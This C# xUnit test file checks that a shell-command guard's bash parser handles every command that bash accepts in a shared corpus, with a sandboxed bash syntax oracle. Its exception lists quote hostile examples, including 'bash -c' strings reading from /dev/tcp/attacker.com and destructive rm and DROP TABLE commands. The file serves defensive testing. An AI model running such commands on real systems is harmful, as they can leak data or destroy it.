using System.Diagnostics;
using System.Globalization;
using System.Text;
using System.Text.Json;
using Guardrails.Actions;
using Guardrails.Shell.Syntax;
using Xunit.Abstractions;

namespace Guardrails.Tests.Shell;

/// <summary>
/// Every command of the shared corpora (<c>../shared/corpora</c>, see its README) that bash itself accepts must be
/// parsed without a parser gap: <see cref="BashParser"/> must return a complete result, and the end-to-end decision
/// must not contain an opaque operation caused by a parse failure or a parser limit anywhere in the nested code.
/// A parse failure on code bash accepts is a parser bug; it would turn an ordinary command into an escalation, and
/// it hides what an attack command really does behind one opaque finding.
/// </summary>
/// <remarks>
/// <para>Bash is the oracle. Starting one <c>bash -n -c</c> per command costs about 1.5 ms (≈ 70 s for the corpora),
/// so one bash process checks many commands: for each it forks a subshell (no exec) that evaluates
/// <c>set -n</c> followed by the command. <c>eval</c> parses and runs its text one complete command at a time, so
/// <c>set -n</c> (a command of its own line) takes effect before anything of the corpus command is read, and bash then
/// only parses the rest. Over the whole corpora this agrees with one <c>bash -n -c</c> per command on every command but
/// one, <c>[[ $v -eq|ne integer ]]</c>, which bash 5.2 reports as a syntax error under both methods but lets
/// <c>bash -n -c</c> exit 0 for; the subshell method counts it as rejected, which is right.</para>
/// <para>Defence in depth, since the corpora contain destructive commands: the checker runs with no environment but
/// <c>PATH</c> (an empty directory), <c>HOME</c> and <c>LC_ALL</c>, in a fresh temporary working directory, and each
/// batch starts with a canary (a redirection that would create a file if anything were executed) and two calibration
/// commands.</para>
/// <para><see cref="KnownParserGaps"/> lists the gaps not fixed yet, each with its reason;
/// <see cref="FailuresBashAgreesWith"/> lists parse failures on commands bash -n accepts only because it does not
/// parse the failing code (backquote bodies, strings for another shell), each with that code, which bash must reject.
/// The test fails on a failure in neither list and on a listed one that no longer occurs, so the lists only shrink.</para>
/// </remarks>
public sealed class CorpusParseTests(ITestOutputHelper output)
{
    private const string ParseFailure = "the command could not be parsed";
    private const string LimitHit = "a parser limit was hit";

    private static readonly JsonSerializerOptions RelaxedJson = new() { Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    /// <summary>
    /// Parser gaps known and not fixed yet: the exact corpus command and why it fails. Each is a bug in the parser or
    /// in the analyzer that hands code to it; remove an entry when it is fixed (the test fails until you do).
    /// </summary>
    private static readonly (string Command, string Reason)[] KnownParserGaps =
    [
        // A here-document whose delimiter line never comes: bash accepts it (warning "here-document at line 1
        // delimited by end-of-file") and runs the command with the rest of the input (here: nothing) as the body.
        // The parser reports UnterminatedHereDoc, so the command becomes opaque. Reproducer: `cat <<EOF`.
        ("command << EOF <Enter> multiline_text <Enter> EOF", "here-document without a delimiter line (bash: warning, body up to end of input)"),
        ("cat << EOF > path/to/file.txt <Enter> multiline_data <Enter> EOF", "here-document without a delimiter line (bash: warning, body up to end of input)"),
        ("cat <<- EOF > path/to/file.txt <Enter> multiline_data <Enter> EOF", "here-document without a delimiter line (bash: warning, body up to end of input)"),
        ("ssh -T tunneluser@111.222.333.444 <<'EOI'", "here-document without a delimiter line (bash: warning, body up to end of input)"),
        ("ssh tunneluser@111.222.333.444 <<\\EOI", "here-document without a delimiter line (bash: warning, body up to end of input)"),
        ("ssh user@server /bin/bash <<'EOT'", "here-document without a delimiter line (bash: warning, body up to end of input)"),

    ];

    /// <summary>
    /// Commands bash -n accepts whose parse failure is nevertheless right, because the code that fails is code bash
    /// only parses when it runs it (a backquote body, or a string handed to another shell), and bash rejects that code
    /// too. The test checks the second element with bash: it must be rejected. Remove an entry when the command no
    /// longer fails (the test fails until you do).
    /// </summary>
    private static readonly (string Command, string RejectedCode, string Reason)[] FailuresBashAgreesWith =
    [
        // bash -n does not parse backquote bodies; at run time bash reports the syntax error and substitutes nothing.
        ("cd `which <file> | xargs dirname`", "which <file> | xargs dirname", "backquote body is not valid bash (placeholder <file>)"),
        ("find -type d -empty -exec rmdir -vp --ignore-fail-on-non-empty {} `;`", ";", "backquote body is a lone ';'"),

        // The code handed to a nested shell is itself invalid (a quote is never closed, or a placeholder is used).
        ("bash -c 'echo \"$(</dev/tcp/attacker.com/12345) >/tmp/out-file'", "echo \"$(</dev/tcp/attacker.com/12345) >/tmp/out-file", "bash -c code has an unterminated double quote"),
        ("bash -p -c 'echo \"$(</dev/tcp/attacker.com/12345) >/tmp/out-file'", "echo \"$(</dev/tcp/attacker.com/12345) >/tmp/out-file", "bash -c code has an unterminated double quote"),
        ("find \"$DIR_TO_CLEAN\" -mtime +$DAYS_TO_SAVE -exec bash -c 'printf \"count=0; for f; do rm \"$f\" && (( count++ )); done; printf \"Total: %d\\n\" $count' _ {} +", "printf \"count=0; for f; do rm \"$f\" && (( count++ )); done; printf \"Total: %d\\n\" $count", "bash -c code has an unterminated double quote"),
        ("su - postgres -c \"/usr/bin/psql database -c \\\"SELECT 'DROP TABLE ' || .... \"", "/usr/bin/psql database -c \"SELECT 'DROP TABLE ' || .... ", "su -c code has an unterminated double quote (the corpus line is cut short)"),
        ("ssh -t remotehost \"sudo <cmd>\"", "sudo <cmd>", "the remote command is a placeholder, not bash"),

        // Name collisions: the corpus means another program of the same name; the analysis follows the system one,
        // which hands its operands to `sh -c` (sg(1) from shadow-utils, watch(1) from procps: options end at the first operand).
        ("sg run --pattern 'Some($A)' --rewrite 'None' --json | jq '.[].replacement' | jless", "--pattern Some($A) --rewrite None --json", "ast-grep's sg, read as sg(1) GROUP COMMAND"),
        ("sg run --pattern 'useState<number>($A)' --rewrite 'useState($A)' --lang typescript", "--pattern useState<number>($A) --rewrite useState($A) --lang typescript", "ast-grep's sg, read as sg(1) GROUP COMMAND"),
        ("watch class-pattern method-pattern '{ params[1],returnObj }' '\"5\".equals(params[0])' -x 4", "class-pattern method-pattern { params[1],returnObj } \"5\".equals(params[0]) -x 4", "Arthas' watch, read as procps watch COMMAND"),
    ];

    [Fact]
    public async Task Corpora_EveryCommandBashAccepts_ParsesWithoutAParserGap()
    {
        var corpora = FindCorpora();
        if (corpora is null)
        {
            var message = "the shared corpora (../shared/corpora next to the folder holding Guardrails.sln) were not found";
            Assert.True(Environment.GetEnvironmentVariable("CI") is null, message + "; CI is set, so they are required");
            output.WriteLine(message + "; skipped");
            return;
        }

        var bash = FindBash();
        if (bash is null)
        {
            var message = "bash was not found; it is the oracle of this test";
            Assert.True(Environment.GetEnvironmentVariable("CI") is null, message + "; CI is set, so it is required");
            output.WriteLine(message + "; skipped");
            return;
        }

        var total = Stopwatch.StartNew();
        var (commands, origins, lines) = LoadCommands(corpora);

        // The oracle (bash, in child processes) and the analysis of every distinct command run at the same time; the
        // analysis of the few commands bash rejects is wasted, which costs less than running the two one after the other.
        // The oracle also judges the code each FailuresBashAgreesWith entry says bash rejects.
        var check = Stopwatch.StartNew();
        var oracle = Task.Run(() =>
        {
            var result = BashSyntaxChecker.Check(bash, [.. commands, .. FailuresBashAgreesWith.Select(f => f.RejectedCode)]);
            check.Stop();
            return result;
        });
        var analysis = Stopwatch.StartNew();
        var gaps = new string?[commands.Count];
        Parallel.For(0, commands.Count, i => gaps[i] = FindGap(commands[i]));
        analysis.Stop();
        var verdicts = await oracle;

        var acceptedCount = 0;
        var found = new Dictionary<string, string>(StringComparer.Ordinal);
        for (var i = 0; i < commands.Count; i++)
        {
            if (!verdicts[i])
            {
                continue;
            }

            acceptedCount++;
            if (gaps[i] is { } gap)
            {
                found[commands[i]] = origins[i] + ": " + gap;
            }
        }

        var agreed = FailuresBashAgreesWith.Count(f => found.ContainsKey(f.Command));
        output.WriteLine(string.Create(CultureInfo.InvariantCulture, $"corpora: {lines} commands ({commands.Count} distinct) from {corpora}"));
        output.WriteLine(string.Create(CultureInfo.InvariantCulture, $"accepted by bash -n: {acceptedCount} distinct ({commands.Count - acceptedCount} rejected); checked in {check.Elapsed.TotalSeconds:F1} s"));
        output.WriteLine(string.Create(CultureInfo.InvariantCulture, $"parsed cleanly: {acceptedCount - found.Count}; parse failures: {found.Count} = {found.Count - agreed} parser gaps ({KnownParserGaps.Length} known) + {agreed} where bash rejects the failing code too"));
        output.WriteLine(string.Create(CultureInfo.InvariantCulture, $"analysed in {analysis.Elapsed.TotalSeconds:F1} s; total {total.Elapsed.TotalSeconds:F1} s"));

        var expected = new Dictionary<string, string>(StringComparer.Ordinal);
        foreach (var (command, reason) in KnownParserGaps)
        {
            expected[command] = "known parser gap: " + reason;
        }

        foreach (var (command, _, reason) in FailuresBashAgreesWith)
        {
            expected[command] = "bash rejects the failing code too: " + reason;
        }

        var unexpected = found.Where(f => !expected.ContainsKey(f.Key)).Select(f => Describe(f.Key, f.Value)).ToList();
        var stale = expected.Where(e => !found.ContainsKey(e.Key)).Select(e => Describe(e.Key, e.Value)).ToList();
        var wrongClaims = FailuresBashAgreesWith.Where((f, i) => verdicts[commands.Count + i]).Select(f => Describe(f.RejectedCode, "bash accepts this code: " + f.Reason)).ToList();
        foreach (var line in unexpected)
        {
            output.WriteLine("GAP " + line);
        }

        foreach (var line in stale)
        {
            output.WriteLine("NO LONGER FAILS (remove the entry) " + line);
        }

        foreach (var line in wrongClaims)
        {
            output.WriteLine("WRONG CLAIM " + line);
        }

        unexpected.Should().BeEmpty("every command bash accepts must parse without a parser gap (see the test output for each gap)");
        stale.Should().BeEmpty("an entry of KnownParserGaps or FailuresBashAgreesWith that no longer fails (or is no longer in the corpora) must be removed");
        wrongClaims.Should().BeEmpty("the code a FailuresBashAgreesWith entry blames must be code bash rejects");
    }

    /// <summary>Returns why <paramref name="command"/> shows a parser gap, or <see langword="null"/> when it has none.</summary>
    private static string? FindGap(string command)
    {
        var result = BashParser.Parse(command, ParserLimits.Default);
        if (!result.IsComplete)
        {
            var diagnostic = result.Diagnostics[0];
            return string.Create(CultureInfo.InvariantCulture, $"parser: {diagnostic.Kind}: {diagnostic.Message} at {diagnostic.Span}");
        }

        var decision = TestGuards.Shell(command);
        foreach (var analyzed in decision.Operations)
        {
            if (analyzed.Operation is OpaqueCode opaque
                && (opaque.Reason.StartsWith(ParseFailure, StringComparison.Ordinal) || opaque.Reason.StartsWith(LimitHit, StringComparison.Ordinal)))
            {
                return $"analysis (via {opaque.Via ?? "top level"}): {opaque.Reason} at {opaque.Span}";
            }
        }

        return null;
    }

    private static string Describe(string command, string reason) =>
        JsonSerializer.Serialize(command, RelaxedJson) + " — " + reason;

    private static string? FindCorpora()
    {
        for (var directory = new DirectoryInfo(AppContext.BaseDirectory); directory is not null; directory = directory.Parent)
        {
            if (File.Exists(Path.Combine(directory.FullName, "Guardrails.sln")))
            {
                var corpora = Path.GetFullPath(Path.Combine(directory.FullName, "..", "shared", "corpora"));
                return Directory.Exists(corpora) ? corpora : null;
            }
        }

        return null;
    }

    private static string? FindBash()
    {
        if (OperatingSystem.IsWindows())
        {
            return null;
        }

        foreach (var candidate in new[] { "/bin/bash", "/usr/bin/bash", "/usr/local/bin/bash" })
        {
            if (File.Exists(candidate))
            {
                return candidate;
            }
        }

        return null;
    }

    /// <summary>Reads every command (distinct, in first-seen order) with where it was first seen, and the total number of commands.</summary>
    private static (List<string> Commands, List<string> Origins, int Lines) LoadCommands(string corpora)
    {
        var files = Directory.GetFiles(corpora, "*.jsonl").Concat(Directory.GetFiles(Path.Combine(corpora, "trajectories"), "*.jsonl"))
            .Where(f => !Path.GetFileName(f).Equals("falco-rules.jsonl", StringComparison.Ordinal))
            .Order(StringComparer.Ordinal)
            .ToList();
        var commands = new List<string>();
        var origins = new List<string>();
        var seen = new HashSet<string>(StringComparer.Ordinal);
        var lines = 0;
        foreach (var file in files)
        {
            var number = 0;
            foreach (var line in File.ReadLines(file))
            {
                number++;
                if (line.Length == 0)
                {
                    continue;
                }

                using var document = JsonDocument.Parse(line);
                var root = document.RootElement;
                foreach (var field in new[] { "command", "command_concrete" })
                {
                    if (!root.TryGetProperty(field, out var value) || value.ValueKind != JsonValueKind.String)
                    {
                        continue;
                    }

                    lines++;
                    var command = value.GetString()!;
                    if (seen.Add(command))
                    {
                        var id = root.TryGetProperty("id", out var idValue) ? idValue.ToString() : number.ToString(CultureInfo.InvariantCulture);
                        commands.Add(command);
                        origins.Add($"{Path.GetFileName(file)} {id} ({field})");
                    }
                }
            }
        }

        return (commands, origins, lines);
    }

    /// <summary>Asks bash whether it accepts each command's syntax, without executing any of them.</summary>
    private static class BashSyntaxChecker
    {
        // For each NUL-terminated command: fork a subshell that evals "set -n", a newline, then the command. The
        // subshell's status is 2 when bash finds a syntax error, 0 otherwise.
        private const string Script = """
            while IFS= read -r -d '' __command; do
              if ( eval "set -n
            $__command" ) 2>/dev/null; then printf 1; else printf 0; fi
            done < "$1"
            """;

        public static bool[] Check(string bash, List<string> commands)
        {
            var workspace = Directory.CreateTempSubdirectory("guardrails-corpus-");
            try
            {
                var canary = Path.Combine(workspace.FullName, "executed");
                var emptyPath = Directory.CreateDirectory(Path.Combine(workspace.FullName, "empty-path")).FullName;

                // Calibration: the canary would create a file if executed; then one rejected and one accepted command.
                string[] preamble = [": > '" + canary + "'", "echo (", "echo ok"];
                var workers = Math.Clamp(Environment.ProcessorCount, 1, 4);
                var chunk = (commands.Count + workers - 1) / workers;
                var tasks = new List<Task<string>>();
                for (var w = 0; w < workers; w++)
                {
                    var slice = commands.Skip(w * chunk).Take(chunk).ToList();
                    var input = Path.Combine(workspace.FullName, "commands-" + w.ToString(CultureInfo.InvariantCulture));
                    var bytes = new StringBuilder();
                    foreach (var command in preamble.Concat(slice))
                    {
                        // A NUL cannot be part of a bash command; such a command is sent empty and counted as rejected below.
                        bytes.Append(command.Contains('\0', StringComparison.Ordinal) ? string.Empty : command).Append('\0');
                    }

                    File.WriteAllText(input, bytes.ToString(), new UTF8Encoding(false));
                    tasks.Add(Task.Run(() => Run(bash, input, workspace.FullName, emptyPath)));
                }

                var results = new StringBuilder();
                for (var w = 0; w < workers; w++)
                {
                    var text = tasks[w].GetAwaiter().GetResult();
                    File.Exists(canary).Should().BeFalse("the syntax checker must never execute a command");
                    text.Should().StartWith("101", "the calibration commands must be judged: canary accepted, 'echo (' rejected, 'echo ok' accepted");
                    results.Append(text.AsSpan(preamble.Length));
                }

                results.Length.Should().Be(commands.Count, "bash must answer once per command");
                var accepted = new bool[commands.Count];
                for (var i = 0; i < accepted.Length; i++)
                {
                    accepted[i] = results[i] == '1' && !commands[i].Contains('\0', StringComparison.Ordinal);
                }

                return accepted;
            }
            finally
            {
                workspace.Delete(recursive: true);
            }
        }

        private static string Run(string bash, string input, string workingDirectory, string emptyPath)
        {
            var start = new ProcessStartInfo(bash)
            {
                RedirectStandardOutput = true,
                RedirectStandardError = true,
                UseShellExecute = false,
                WorkingDirectory = workingDirectory,
            };
            start.ArgumentList.Add("--norc");
            start.ArgumentList.Add("--noprofile");
            start.ArgumentList.Add("-c");
            start.ArgumentList.Add(Script);
            start.ArgumentList.Add("corpus-check");
            start.ArgumentList.Add(input);
            start.Environment.Clear();
            start.Environment["PATH"] = emptyPath;
            start.Environment["HOME"] = workingDirectory;
            start.Environment["LC_ALL"] = "C.UTF-8";

            using var process = Process.Start(start)!;
            var stdout = process.StandardOutput.ReadToEndAsync();
            var stderr = process.StandardError.ReadToEndAsync();
            if (!process.WaitForExit(TimeSpan.FromMinutes(3)))
            {
                process.Kill(entireProcessTree: true);
                throw new TimeoutException("bash did not finish checking the corpus within 3 minutes");
            }

            var text = stdout.GetAwaiter().GetResult();
            _ = stderr.GetAwaiter().GetResult();
            process.ExitCode.Should().Be(0, "the checker script itself must run to the end");
            return text;
        }
    }
}
